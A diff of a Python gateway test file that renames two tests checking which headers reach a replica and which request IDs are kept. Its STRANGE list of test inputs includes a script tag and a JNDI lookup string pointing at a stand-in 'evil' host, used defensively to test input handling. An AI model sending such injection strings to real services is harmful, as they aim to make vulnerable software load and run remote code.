@@ -55,7 +55,7 @@ HOSTILE = (
 )
 
 
-async def test_a_replica_gets_only_what_the_gateway_means_it_to_get(
+async def test_replica_gets_only_headers_that_the_gateway_sets(
     gateway: GatewayFactory, capture: Capture, connect: Connect
 ) -> None:
     gw = await gateway(rules(capture.url, keys={KEY: "acme"}, pool="api_key: of-the-pool"))
@@ -113,9 +113,7 @@ async def test_trace_context_is_passed_on_only_if_it_is_well_formed(
 STRANGE = ("", "a b", "a\tb", "é", "x" * 129, "a,b", "<script>", "${jndi:ldap://evil}", "id;x=1", '"quoted"')
 
 
-async def test_a_request_id_is_kept_if_it_is_harmless(
-    gateway: GatewayFactory, capture: Capture, connect: Connect
-) -> None:
+async def test_harmless_request_id_is_kept(gateway: GatewayFactory, capture: Capture, connect: Connect) -> None:
     gw = await gateway(rules(capture.url))
     client = await connect(gw.url)
     for request_id in STRANGE:
